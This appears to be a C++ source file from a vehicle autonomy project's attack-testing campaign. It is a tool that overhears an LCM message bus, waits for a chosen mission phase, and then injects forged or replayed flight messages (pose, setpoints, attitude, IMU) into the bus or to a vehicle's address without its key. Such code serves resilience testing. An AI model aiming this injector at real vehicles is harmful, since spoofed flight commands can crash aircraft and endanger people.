// alight-attack: one attack of the attack campaign (scripts/attacks; tools/attack.hpp), sent as
// an outsider would: plain LCM datagrams to the bus's multicast group or, unicast, to a vehicle's
// address and port, without the vehicle's key. It listens on --listen-url for what it can
// overhear (the mission's phase, the newest messages to copy) and attacks when --when-phase is
// reached, or --delay-s after its start when it overhears nothing (a bus that stays on the
// vehicle). Exit status 0 when the attack was sent, 2 on bad arguments.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <alight/autonomy_status_t.hpp>
#include <cstdio>
#include <lcm/lcm-cpp.hpp>
#include <map>
#include <regex>

#include "common/channels.hpp"
#include "common/decode.hpp"
#include "common/node.hpp"
#include "tools/attack.hpp"

namespace attack = alight::tools::attack;

namespace {

struct Listener {
  attack::Overheard heard;
  std::optional<alight::autonomy_status_t> status;
  uint64_t n = 0;
  void on(const lcm::ReceiveBuffer* rbuf, const std::string& channel) {
    ++n;
    const auto* p = static_cast<const uint8_t*>(rbuf->data);
    const std::vector<uint8_t> bytes(p, p + rbuf->data_size);
    namespace ch = alight::channels;
    if (channel == ch::kAutonomyStatus) {
      alight::autonomy_status_t m;
      if (alight::decode_message(m, p, rbuf->data_size)) status = m;
      return;
    }
    const auto keep = [&](auto& slot) {
      typename std::remove_reference_t<decltype(slot)>::value_type m;
      if (alight::decode_message(m, p, rbuf->data_size)) slot = m;
    };
    if (channel == ch::kMocapPose) keep(heard.pose);
    if (channel == ch::kPositionSetpoint) keep(heard.setpoint);
    if (channel == ch::kAttitudeCmd) keep(heard.attitude);
    if (channel == ch::kVisionTarget) keep(heard.target);
    for (const char* flight :
         {ch::kMocapPose, ch::kPositionSetpoint, ch::kAttitudeCmd, ch::kImu, ch::kVisionTarget}) {
      if (channel != flight) continue;
      bool replaced = false;
      for (auto& [c, b] : heard.raw)
        if (c == channel) {
          b = bytes;
          replaced = true;
        }
      if (!replaced) heard.raw.emplace_back(channel, bytes);
    }
  }
};

void say(const std::string& text) {
  std::printf("alight-attack: %s\n", text.c_str());
  std::fflush(stdout);
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"alight-attack: one attack of the attack campaign, as an outsider sends it"};
  std::string attack_name, listen_url = "udpm://239.255.76.67:7667?ttl=0", when_phase;
  std::vector<std::string> tos;
  int ttl = 1;
  double delay_s = 0, wait_timeout_s = 60;
  uint64_t seed = 1;
  std::vector<std::string> names;
  for (auto k : attack::all()) names.push_back(attack::name(k));
  app.add_option("--attack", attack_name, "One of the attacks")
      ->required()
      ->check(CLI::IsMember(names));
  app.add_option("--listen-url", listen_url, "LCM URL to overhear the bus on");
  app.add_option("--to", tos,
                 "ADDRESS:PORT to send to: the bus's multicast group, or a vehicle's address "
                 "(unicast: LCM's socket takes it from any interface); repeatable")
      ->required();
  app.add_option("--ttl", ttl, "Multicast ttl")->check(CLI::Range(0, 255));
  app.add_option("--when-phase", when_phase, "Attack once AUTONOMY_STATUS shows a matching phase");
  app.add_option("--wait-timeout-s", wait_timeout_s,
                 "... but at most this long, then attack blind [s]")
      ->check(CLI::Range(0.0, 3600.0));
  app.add_option("--delay-s", delay_s, "Then wait this long [s]")->check(CLI::Range(0.0, 3600.0));
  app.add_option("--seed", seed, "Seed of the random bytes");
  CLI11_PARSE(app, argc, argv);

  const attack::Kind kind = *attack::parse(attack_name);
  std::vector<sockaddr_in> dsts;
  for (const auto& to : tos) {
    const size_t colon = to.rfind(':');
    sockaddr_in dst{};
    dst.sin_family = AF_INET;
    int port = 0;
    try {
      port = colon == std::string::npos ? 0 : std::stoi(to.substr(colon + 1));
    } catch (const std::exception&) {
    }
    if (port <= 0 || port > 65535 ||
        inet_pton(AF_INET, to.substr(0, colon).c_str(), &dst.sin_addr) != 1) {
      std::fprintf(stderr, "alight-attack: --to %s: not ADDRESS:PORT\n", to.c_str());
      return 2;
    }
    dst.sin_port = htons(static_cast<uint16_t>(port));
    dsts.push_back(dst);
  }
  std::optional<std::regex> phase_re;
  try {
    if (!when_phase.empty()) phase_re = std::regex(when_phase);
  } catch (const std::regex_error&) {
    std::fprintf(stderr, "alight-attack: --when-phase '%s': not a regular expression\n",
                 when_phase.c_str());
    return 2;
  }
  const int sock = socket(AF_INET, SOCK_DGRAM, 0);
  const unsigned char mttl = static_cast<unsigned char>(ttl);
  setsockopt(sock, IPPROTO_IP, IP_MULTICAST_TTL, &mttl, sizeof mttl);

  lcm::LCM lcm(alight::with_receive_buffer(listen_url));
  Listener listener;
  if (lcm.good()) lcm.subscribe(".*", &Listener::on, &listener);
  const auto spin = [&](double seconds) {
    const int64_t end = alight::steady_utime() + static_cast<int64_t>(seconds * 1e6);
    do {
      if (lcm.good()) lcm.handleTimeout(5);
    } while (alight::steady_utime() < end);
  };

  if (phase_re) {
    const int64_t give_up = alight::steady_utime() + static_cast<int64_t>(wait_timeout_s * 1e6);
    while (!(listener.status && std::regex_search(listener.status->phase_name, *phase_re)) &&
           alight::steady_utime() < give_up)
      spin(0.1);
    if (listener.status && std::regex_search(listener.status->phase_name, *phase_re))
      say("phase " + listener.status->phase_name + " reached");
    else
      say("phase /" + when_phase + "/ not overheard within " + std::to_string(wait_timeout_s) +
          " s (" + std::to_string(listener.n) + " messages overheard): attacking blind");
  }
  spin(delay_s);
  std::string targets;
  for (const auto& to : tos) targets += (targets.empty() ? "" : ", ") + to;
  // The start on the wall clock, for the campaign to tell what the vehicle saw before and after.
  say(std::string("attack ") + attack::name(kind) + " on " + targets + " at utime " +
      std::to_string(alight::wall_utime()) + " (" + std::to_string(listener.n) +
      " messages overheard so far)");

  std::mt19937_64 rng(seed);
  uint32_t seq = 0;
  uint64_t sent = 0, failed = 0;
  const int64_t start = alight::steady_utime();
  for (;;) {
    const double t = static_cast<double>(alight::steady_utime() - start) * 1e-6;
    for (const auto& d : attack::round(kind, t, alight::wall_utime(), listener.heard, rng)) {
      const auto bytes = attack::lcm_datagram(d.channel, d.payload, seq++);
      for (const auto& dst : dsts) {
        if (sendto(sock, bytes.data(), bytes.size(), 0, reinterpret_cast<const sockaddr*>(&dst),
                   sizeof dst) < 0)
          ++failed;
        else
          ++sent;
      }
    }
    if (t >= attack::duration_s(kind)) break;
    spin(std::max(attack::period_s(kind), 0.0005));
  }
  close(sock);
  say("done: " + std::to_string(sent) + " datagrams sent, " + std::to_string(failed) + " failed");
  return 0;
}
